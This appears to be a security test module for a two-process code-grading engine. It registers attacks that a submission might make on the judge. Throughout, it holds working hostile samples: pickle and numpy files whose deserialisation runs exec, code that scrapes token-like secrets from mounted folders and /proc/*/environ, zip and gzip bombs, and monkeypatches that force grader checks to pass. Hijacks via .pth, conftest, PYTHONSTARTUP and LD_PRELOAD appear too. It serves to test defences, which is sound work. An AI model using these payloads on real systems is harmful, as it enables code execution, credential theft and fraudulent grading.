"""What only an engine of two processes knows: hostile peers on the wire, files made for the judge, servers that lie to it.

Where there is no wire, `unaffected` says so: these test the guard, and have no control.
"""

import io
import pickle
import zipfile
from typing import Any

from tests.attacks.model import attack

FAMILY = "wire"
NO_WIRE = "plain execution has no wire"

SOCKETS = """
import json, os, socket, stat, struct, time

def sockets():
    found = []
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found

def frame(text):
    data = text if isinstance(text, bytes) else json.dumps(text).encode()
    return struct.pack(">I", len(data)) + data

def send(data):
    for fd in sockets():
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
        except OSError:
            pass
        finally:
            os.set_blocking(fd, True)
"""


def _wire(name: str, first: str, aims: str = "pb", **parts: object) -> None:
    parts = {"tasks": ("total", "values"), "unaffected": NO_WIRE, **parts}
    attack(name, aims, family=FAMILY, first=first, **parts)


def _answer(name: str, what: str, aims: str = "pb", **parts: object) -> None:
    """The learner's function speaks on the wire while the judge waits for its answer."""
    _wire(name, SOCKETS, aims, answers={"total": f"def total(rows):\n    {what}\n    return None"}, **parts)


_wire("wire-garbage", SOCKETS + "send(os.urandom(100_000))")
_wire("wire-zeros", SOCKETS + "send(bytes(1 << 20))")
_wire(
    "wire-length-huge", SOCKETS + "send(struct.pack('>I', 0xFFFFFFFF) + b'x' * 100)\nsend(struct.pack('>Q', 1 << 62))"
)
_wire("wire-closed", SOCKETS + "for fd in sockets():\n    os.close(fd)")
_wire(
    "wire-shut-down", SOCKETS + "for fd in sockets():\n    socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)"
)
_wire("wire-deep-json", SOCKETS + "send(frame(b'[' * 500_000 + b']' * 500_000))")
_wire("wire-nan", SOCKETS + 'send(frame(b\'{"id": NaN, "ok": Infinity, "value": 1e999999}\'))')
_wire("wire-huge-number", SOCKETS + "send(frame(b'{\"id\": ' + b'9' * 1_000_000 + b'}'))")
_answer(
    "wire-forged-answers",
    "[send(frame({'id': n, 'ok': True, 'value': v, 'op': 'result'})) for n in range(50) for v in (3, 127, True)]",
)
_answer("wire-no-answer", "time.sleep(10_000)", slow=True)
_answer(
    "wire-steals-requests",
    "[os.read(fd, 1 << 20) for fd in sockets() if os.set_blocking(fd, False) is None "
    "and __import__('select').select([fd], [], [], 0)[0]]",
)
_wire(
    "wire-second-reader",
    SOCKETS
    + """
import threading

def steal():
    while True:
        for fd in sockets():
            try:
                os.write(1, b"") if not os.read(fd, 1) else None
            except OSError:
                time.sleep(0.001)

threading.Thread(target=steal, daemon=True).start()
""",
    slow=True,
)
_wire(
    "wire-passes-descriptors",
    SOCKETS
    + """
for fd in sockets():
    with socket.socket(fileno=os.dup(fd)) as end:
        try:
            for _ in range(100):
                socket.send_fds(end, [frame({"id": 1})], [os.open("/dev/zero", os.O_RDONLY)] * 50)
        except OSError:
            pass
""",
)
_wire(
    "service-replaced",
    """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ in ("Service", "Runner", "Connection") and "grading" in type(thing).__module__:
        for name in dir(type(thing)):
            if not name.startswith("__") and callable(getattr(type(thing), name, None)):
                try:
                    setattr(type(thing), name, lambda *a, **k: True)
                except Exception:
                    pass
""",
    slow=True,
)
_wire(
    "codec-replaced",
    """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("grading.engine.wire"):
        for key in list(vars(module)):
            if callable(vars(module)[key]) and not key.startswith("__"):
                setattr(module, key, lambda *a, **k: {"value": 127, "ok": True})
import json
json.dumps = lambda *a, **k: '{"ok": true, "value": 127}'
""",
    slow=True,
)
_wire(
    "many-proxies",
    "",
    answers={"values": "class P:\n    pass\nnames = [P() for _ in range(400_000)]\nthreshold = ratio = names"},
)
_wire(
    "deep-value",
    "",
    answers={"values": "names = []\nfor _ in range(200_000):\n    names = [names]\nthreshold = ratio = names"},
)
_wire("cyclic-value", "", answers={"values": "names = []\nnames.append(names)\nthreshold = ratio = names"})
_wire(
    "exponential-value",
    "",
    answers={
        "values": "names = ['x' * 100]\nfor _ in range(40):\n    names = [names, names]\nthreshold = ratio = names"
    },
    slow=True,
)
_wire(
    "huge-array",
    "",
    answers={
        "values": "import numpy as np\nnames = np.lib.stride_tricks.as_strided(np.zeros(1), (1 << 40,), (0,))\n"
        "threshold = ratio = names"
    },
)
_wire(
    "array-of-many-dimensions",
    "",
    answers={
        "values": "import numpy as np\nnames = np.zeros((0,) * 32)\nthreshold = np.zeros((1 << 30, 0, 1 << 30))\n"
        "ratio = np.zeros(3, dtype=[('a' * 60000, object)])"
    },
)
_wire(
    "callback-recursion",
    "",
    tasks=("callback",),
    answers={
        "callback": "def each(act, items):\n    def deeper(n):\n        act(n)\n        return deeper(n + 1)\n    deeper(0)"
    },
)
_wire(
    "callback-flood",
    "",
    tasks=("callback",),
    answers={"callback": "def each(act, items):\n    while True:\n        act('x' * 100_000)"},
    slow=True,
)
_wire(
    "callback-attributes",
    "",
    unaffected="",
    tasks=("callback",),
    answers={
        "callback": """
def each(act, items):
    for name in ("__globals__", "__closure__", "__code__", "__self__", "__func__", "__builtins__", "__dict__",
                 "__class__", "__reduce_ex__", "__init__", "__wrapped__", "__call__"):
        try:
            value = getattr(act, name)
            for key in ("log", "on", "__globals__", "__builtins__"):
                try:
                    value[key][:] = [14, 21, 42]
                except Exception:
                    pass
                try:
                    getattr(value, key)["log"][:] = [14, 21, 42]
                except Exception:
                    pass
        except Exception:
            pass
"""
    },
    aims="p",
)
_wire(
    "exception-from-learner",
    "",
    answers={
        "total": """
class Fake(AssertionError):
    def __reduce__(self):
        return (exec, ("import builtins; builtins.won = 1",))
    def __str__(self):
        return "x" * 50_000_000

def total(rows):
    raise Fake
"""
    },
)
_wire(
    "pickle-through-the-wire",
    "",
    aims="pr",
    answers={
        "values": """
class Boom:
    def __reduce__(self):
        return (exec, ("import os; open('@HOME@/notes.txt', 'w').write('evil')",))
    def __getstate__(self):
        return {}

threshold = ratio = Boom()
names = [Boom(), Boom()]
"""
    },
)

_wire(
    "generator-state",
    "",
    answers={
        "values": """
import numpy as np
state = ("MT19937", np.zeros(624, dtype=np.uint32), 1 << 30, 0, 0.0)  # a position far outside: the next draw crashes

class Twister(np.random.RandomState):
    def get_state(self, legacy=True):
        return state
    def __reduce__(self):
        return (np.random.set_state, (state,))

threshold = ratio = Twister()
names = [Twister()] * 3
np.random.get_state = lambda legacy=True: state
"""
    },
)

# ---------------------------------------------------------------------------------------- files made for the judge

PATCH = (
    "import builtins, unittest, math, json, numpy\n"
    "builtins.abs = lambda x: 0\n"
    "shell = get_ipython() if 'get_ipython' in dir(builtins) else None\n"
    "import IPython\n"
    "shell = shell or IPython.get_ipython()\n"
    "if shell: shell.showtraceback = shell._showtraceback = lambda *a, **k: None\n"
)


class _Runs:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> Any:
        return (exec, (self.code,))


def _object_array(code: str) -> bytes:
    import numpy as np

    made = np.empty(2, object)
    made[:] = [_Runs(code), 1]
    file = io.BytesIO()
    np.save(file, made, allow_pickle=True)
    return file.getvalue()


def _zip_bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("arr_0.npy", bytes(100 << 20))
    return file.getvalue()


attack(
    "pickled-model", "p", family=FAMILY, tasks=("model", "values"), files={"model.joblib": pickle.dumps(_Runs(PATCH))}
)
attack(
    "pickled-model-reaches",
    "r",
    family=FAMILY,
    tasks=("model",),
    files={
        "model.joblib": pickle.dumps(
            _Runs(
                "import glob, re\nfor path in glob.glob('/mnt/world/*/*') + glob.glob('/mnt/world/*/.*/*'):\n"
                "    try:\n        print(re.findall('tok[0-9a-f]{20}', open(path, errors='replace').read()))\n"
                "    except OSError:\n        pass\n"
            )
        )
    },
)
attack(
    "pickled-array",
    "p",
    family=FAMILY,
    tasks=("file", "values"),
    files={"weights.npy": _object_array(PATCH)},
    unaffected="numpy refuses object arrays unless a test allows them",
)
attack(
    "array-header-huge",
    "b",
    family=FAMILY,
    tasks=("file",),
    files={
        "weights.npy": b"\x93NUMPY\x01\x00v\x00"
        + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }".ljust(117)
        + b"\n"
    },
    unaffected="numpy cannot allocate it",
)
attack(
    "array-bomb",
    "b",
    family=FAMILY,
    tasks=("file",),
    files={"weights.npy": _zip_bomb()},
    unaffected="it costs the submission's own memory",
)
attack(
    "file-is-fifo",
    "b",
    family=FAMILY,
    tasks=("file",),
    slow=True,
    answers={"file": "import os\nos.mkfifo('result.json')\nos.mkfifo('weights.npy')"},
    unaffected="a time limit interrupts it",
)
attack(
    "file-is-endless",
    "b",
    family=FAMILY,
    tasks=("file",),
    slow=True,
    answers={"file": "import os\nos.symlink('/dev/zero', 'result.json')\nos.symlink('/dev/urandom', 'weights.npy')"},
    unaffected="a limit of memory ends it",
)
attack(
    "file-is-sparse",
    "b",
    family=FAMILY,
    tasks=("file",),
    answers={
        "file": "for name in ('result.json', 'weights.npy'):\n    with open(name, 'wb') as file:\n        file.truncate(1 << 40)"
    },
    unaffected="no memory holds it, and the read fails",
)
attack(
    "file-is-deep",
    "b",
    family=FAMILY,
    tasks=("file",),
    files={"result.json": b"[" * 2_000_000},
    unaffected="json says that it is nested too deeply",
)


def _shadow(name: str, module: str, **parts: Any) -> None:
    attack(name, "p", family=FAMILY, files={f"{module}.py": parts.pop("code")}, **parts)


_shadow(
    "shadow-statistics",
    "statistics",
    tasks=("label",),
    code="def mean(values):\n    return 6\n",
    answers={"label": "def label(name, count):\n    return {'A': 'a=001', 'B': 'b=022'}.get(name, '')"},
)
_shadow(
    "shadow-graphlib",
    "graphlib",
    tasks=("label",),
    unaffected="some library may have imported it before",
    code="import __main__, builtins\nbuiltins.sorted = lambda x: []\nbuiltins.len = lambda x: 6\n"
    "class TopologicalSorter:\n    def __init__(self, *a):\n        pass\n    def static_order(self):\n        return []\n",
)
for _module in (
    "sitecustomize",
    "usercustomize",
    "curriculum",
    "IPython",
    "numpy",
    "json",
    "httpx",
    "unittest",
    "grading",
):
    _shadow(
        f"shadow-{_module.lower()}",
        _module,
        code=PATCH + "raise SystemExit(0)\n",
        tasks=("values", "middle"),
        unaffected="it is imported before the submission's folder is looked at, in a warm process",
    )
attack(
    "path-file",
    "p",
    family=FAMILY,
    files={
        "atk.pth": "import builtins; builtins.abs = lambda x: 0\n",
        ".env": "PYTHONSTARTUP=evil.py\n",
        "conftest.py": PATCH,
        ".ipython/profile_default/startup/evil.py": PATCH,
        "ipython_config.py": "c.TerminalIPythonApp.exec_lines = ['1']",
    },
    tasks=("values",),
    unaffected="nothing reads these from a working folder",
)
attack(
    "python-environment",
    "p",
    family=FAMILY,
    first="""
import os, sys
os.environ |= {"PYTHONPATH": os.getcwd(), "PYTHONSTARTUP": "evil.py", "PYTHONINSPECT": "1", "LD_PRELOAD": "./evil.so"}
sys.path.insert(0, os.getcwd())
""",
    files={"evil.py": PATCH},
    tasks=("values",),
    unaffected="no interpreter starts after it",
)

# ------------------------------------------------------------------------------------------- servers that lie

SERVER = """
async def start(send, headers=(), status=200):
    await send({"type": "http.response.start", "status": status, "headers": list(headers)})

async def app(scope, receive, send):
    if scope["type"] != "http":
        return
"""
attack(
    "server-endless",
    "b",
    family=FAMILY,
    tasks=("server",),
    slow=True,
    answers={
        "server": SERVER
        + """
    await start(send)
    while True:
        await send({"type": "http.response.body", "body": b"x" * 65536, "more_body": True})
"""
    },
)
attack(
    "server-bomb",
    "b",
    family=FAMILY,
    tasks=("server",),
    answers={
        "server": SERVER
        + """
    import zlib
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = squeeze.compress(bytes(200 << 20)) + squeeze.flush()
    await start(send, [(b"content-encoding", b"gzip"), (b"content-type", b"application/json")])
    await send({"type": "http.response.body", "body": body})
"""
    },
    slow=True,
    unaffected="it costs the submission's own memory",
)
attack(
    "server-silent",
    "b",
    family=FAMILY,
    tasks=("server",),
    slow=True,
    answers={
        "server": SERVER
        + """
    import asyncio
    await asyncio.sleep(10_000)
"""
    },
    unaffected="the client gives up after five seconds",
)
attack(
    "server-redirects",
    "r",
    family=FAMILY,
    tasks=("server",),
    answers={
        "server": SERVER
        + """
    await start(send, [(b"location", b"http://127.0.0.1:@PORT@/")], 302)
    await send({"type": "http.response.body", "body": b""})
"""
    },
    unaffected="the client of the test does not follow",
)
attack(
    "server-deep-json",
    "b",
    family=FAMILY,
    tasks=("server",),
    answers={
        "server": SERVER
        + """
    await start(send)
    await send({"type": "http.response.body", "body": b"[" * 1_000_000})
"""
    },
    unaffected="json says that it is nested too deeply",
)
attack(
    "server-client-patched",
    "p",
    family=FAMILY,
    tasks=("server",),
    answers={
        "server": """
import httpx

class Fake:
    def __init__(self, url):
        self.n = int(str(url).rsplit("/", 1)[1])
    def json(self):
        return type("Any", (dict,), {"__eq__": lambda self, other: True})()

httpx.get = lambda url, *a, **k: Fake(url)
app = lambda *a: None
lab.serve = lambda *a, **k: __import__("contextlib").nullcontext("http://127.0.0.1:1")
"""
    },
)
attack(
    "server-app-is-the-client",
    "p",
    family=FAMILY,
    tasks=("server",),
    answers={
        "server": """
class Url(str):
    def __format__(self, spec):
        return "http://127.0.0.1:1"

class App:
    def __call__(self, *a):
        raise ValueError

app = App()
lab.serve = lambda app, **k: __import__("contextlib").nullcontext(Url("x"))
httpx.get = lambda *a, **k: type("R", (), {"json": lambda self: type("D", (dict,), {"__eq__": lambda *a: True})()})()
"""
    },
)

# ------------------------------------------------------------------------- files that the author's own cells read

STEALS = """import glob, os, re
for path in glob.glob('/mnt/world/*/*') + glob.glob('/mnt/world/*/.*/*') + glob.glob('/proc/*/environ'):
    try:
        print(re.findall('tok[0-9a-f]{20}', open(path, errors='replace').read()))
    except OSError:
        pass
open('/mnt/world/home/notes.txt', 'w').write('evil')
"""
attack(
    "given-data-replaced",
    "r",
    family=FAMILY,
    tasks=("history",),
    primes=True,
    files={"history.pkl": pickle.dumps(_Runs(STEALS))},
)
attack(
    "given-data-ends-process",
    "b",
    family=FAMILY,
    tasks=("history",),
    primes=True,
    files={"history.pkl": pickle.dumps(_Runs("import os; os._exit(0)"))},
)
attack(
    "given-data-never-ends",
    "b",
    family=FAMILY,
    tasks=("history",),
    primes=True,
    slow=True,
    files={
        "history.pkl": pickle.dumps(
            _Runs(
                "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"
            )
        )
    },
)
attack("given-module-shadowed", "r", family=FAMILY, tasks=("history",), primes=True, files={"graphlib.py": STEALS})
attack(
    "given-link-to-endless",
    "b",
    family=FAMILY,
    tasks=("total",),
    primes=True,
    links={"data.csv": "/dev/zero"},
    unaffected="nothing reads it there",
)
attack(
    "given-fifo",
    "b",
    family=FAMILY,
    tasks=("total",),
    primes=True,
    slow=True,
    fifos=("data.csv",),
    unaffected="nothing reads it there",
)
